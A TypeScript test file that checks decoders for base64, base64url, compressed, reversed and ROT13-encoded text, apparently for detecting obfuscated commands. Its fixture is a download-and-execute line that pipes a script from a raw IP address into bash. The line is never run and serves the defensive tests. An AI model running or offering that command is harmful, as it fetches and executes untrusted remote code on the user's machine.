import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync, gzipSync } from "node:zlib";
import { fromBase64, fromReversedBase64, fromRot13Base64, reversed, rot13 } from "./ciphers.ts";

const COMMAND = "curl http://45.61.136.77/x.sh | bash\n";

test("base64 of a command is read in each encoding, packed, in reverse and by ROT13", () => {
  const written = [
    Buffer.from(COMMAND),
    Buffer.from(COMMAND, "utf16le"),
    gzipSync(COMMAND),
    deflateSync(COMMAND),
  ];
  for (const bytes of written) {
    for (const text of [bytes.toString("base64"), bytes.toString("base64url")]) {
      assert.equal(fromBase64(text), COMMAND);
      assert.equal(fromBase64(`${text.slice(0, 9)}\n${text.slice(9)}`), COMMAND);
      assert.equal(fromRot13Base64(rot13(text)), COMMAND);
      const bare = text.replaceAll("=", "");
      assert.equal(fromReversedBase64(reversed(bare)), COMMAND);
    }
  }
});

test("words that look like base64 and encode no text are not decoded", () => {
  for (const word of ["SomeClassNameInAProgram", "path/To/Some/Module/File", "XYZ-abc-DEF-ghi-JKL"])
    for (const read of [fromBase64, fromReversedBase64, fromRot13Base64])
      assert.equal(read(word), null, word);
});

test("ROT13 rotates only letters", () => {
  assert.equal(rot13("@AMNZ[`amnz{ 0\u00E9"), "@NZAM[`nzam{ 0\u00E9");
});
